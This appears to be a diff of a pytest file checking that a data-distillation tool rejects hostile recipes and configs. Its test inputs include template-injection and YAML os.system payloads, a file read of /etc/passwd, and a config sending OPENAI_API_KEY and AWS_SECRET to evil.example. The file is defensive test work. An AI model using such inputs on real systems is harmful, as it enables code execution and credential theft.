@@ -17,7 +17,7 @@ from distill_data.recipes import trial
 from distill_data.recipes.sandbox import Rendering
 from tests.system.command import Output, label, run
 from tests.system.echoes import Echoes, completion, echoing
-from tests.system.every_command import FRONT, Ended, asking, forked, write_seeds
+from tests.system.every_command import FRONT, Ended, asking, doctor, forked, write_seeds
 
 KEY = "sk-CANARY-Q7XvZ2kWq9Jx4VbZ"
 CERTIFICATE = """-----BEGIN PRIVATE KEY-----
@@ -46,10 +46,15 @@ def place(tmp_path: Path) -> Path:
     return tmp_path
 
 
-@pytest.fixture
-def echoes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Echoes]:
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Echoes]:
     with echoing(tmp_path_factory.mktemp("server")) as server:
         yield server
+
+
+@pytest.fixture
+def echoes(server: Echoes) -> Echoes:
+    return server.forgetful()
 
 
 def refused(ended: Ended, *words: str, code: int = 2) -> None:
@@ -65,17 +70,13 @@ def refused(ended: Ended, *words: str, code: int = 2) -> None:
 
 RECIPES = {
     "a power": (FRONT + "{{ 'a' * 1000000000 }}", "stranger.jinja:8: templates have no operator *"),
-    "str.format": (FRONT + "{{ '{:1000000000}'.format(1) }}", "stranger.jinja:8: templates call nothing but range"),
-    "a file": (FRONT + "{% include '/etc/passwd' %}", "stranger.jinja:8: templates have no include"),
     "long loops": (
         FRONT + "{% for a in range(999999) %}{% for b in range(999999) %}x{% endfor %}{% endfor %}",
         "stranger.jinja:8: the loops of this prompt take more than",
     ),
     "a null": (FRONT + "{{ row.nothing }}", "stranger.jinja:8: this value is null"),
     "a server": (FRONT.replace("parser:", "base_url: https://evil.example\nparser:") + "x", "base_url: unknown key"),
-    "a key": (FRONT.replace("parser:", "api_key_env: HOME\nparser:") + "x", "api_key_env: unknown key"),
     "a tag": (FRONT.replace("about: X.", "about: !!python/object:os.system x") + "x", "tags (!) are not allowed"),
-    "a key twice": (FRONT.replace("parser: text", "parser: text\nparser: json") + "x", "parser: stands here twice"),
     "a long number": (FRONT.replace("8}", "9" * 5000 + "}") + "x", "which recipes lack"),
 }
 
@@ -117,7 +118,7 @@ def no_bounds() -> None:
 
 @pytest.mark.slow
 def test_the_first_row_is_tried_in_a_child_too(echoes: Echoes, place: Path) -> None:
-    loops = "".join("{% for " + name + " in row.xs|default([1]) %}" for name in "abcd") + "x" + "{% endfor %}" * 4
+    loops = "".join("{% for " + name + " in row.xs|default([1]) %}" for name in "abcd") + "{% endfor %}" * 4 + "x"
     (place / "stranger.jinja").write_text(FRONT + loops)
     (place / "seeds.jsonl").write_text(json.dumps({"instruction": "x", "xs": list(range(1000))}) + "\n")
     ended = forked(asking("label", echoes.url("ok"), "-r", "./stranger.jinja"), place, before=no_bounds)
@@ -130,14 +131,18 @@ def test_the_first_row_is_tried_in_a_child_too(echoes: Echoes, place: Path) -> N
 CONFIG = '[models.theirs]\nmodel = "openai/m"\nbase_url = "{url}"\n{more}\n'
 
 
-@pytest.mark.parametrize("more", ['api_key_env = "OPENAI_API_KEY"', 'headers = { X-Stolen = "AWS_SECRET" }'])
-def test_a_configuration_that_came_along_sends_no_key(more: str, echoes: Echoes, place: Path) -> None:
+def test_a_configuration_that_came_along_sends_no_key(echoes: Echoes, place: Path) -> None:
+    more = 'api_key_env = "OPENAI_API_KEY"\nheaders = { X-Stolen = "AWS_SECRET" }'
     (place / "distill.toml").write_text(CONFIG.format(url="https://evil.example/v1", more=more))
     env = {"OPENAI_API_KEY": KEY, "AWS_SECRET": KEY, "HTTPS_PROXY": echoes.root}
     args = ("label", "seeds.jsonl", "-r", "answer", "-t", "theirs", "-o", "label.jsonl")
-    refused(forked(args, place, env), "to evil.example", "--config distill.toml")
+    refused(
+        forked(args, place, env),
+        "the value of OPENAI_API_KEY, AWS_SECRET to evil.example",
+        "give --config distill.toml, or export DISTILL_CONFIG=distill.toml once",
+    )
     assert echoes.ledger() == []
-    named = forked((*args, "--config", "distill.toml", "--timeout", "1"), place, env)
+    named = forked((*args, "--timeout", "1"), place, {**env, "DISTILL_CONFIG": "distill.toml"})
     assert named.code == 4, "it was asked, by a proxy that opens no tunnel"
 
 
@@ -208,9 +213,10 @@ def test_a_proxy_sees_the_host_and_not_the_key(place: Path) -> None:
         netrc = place / "netrc"
         netrc.write_text("default login joe password other\n")
         netrc.chmod(0o600)
-        job = label(place / "seeds.jsonl", "https://teacher.example/v1", Output(place / "out.jsonl"), "--limit", "1")
+        url = "https://teacher.example/v1"
+        job = label(place / "seeds.jsonl", url, Output(place / "out.jsonl"), "--limit", "1")
         run(*job, env=env | {"NETRC": str(netrc)}).ended(0)
-        run("doctor", "-t", "openai/m", "--base-url", "https://teacher.example/v1", env=env)
+        forked(doctor(url), place, env)
     to_proxy, to_teacher = heads[::2], heads[1::2]
     assert len(to_proxy) == len(to_teacher) == 2
     for head in to_proxy:
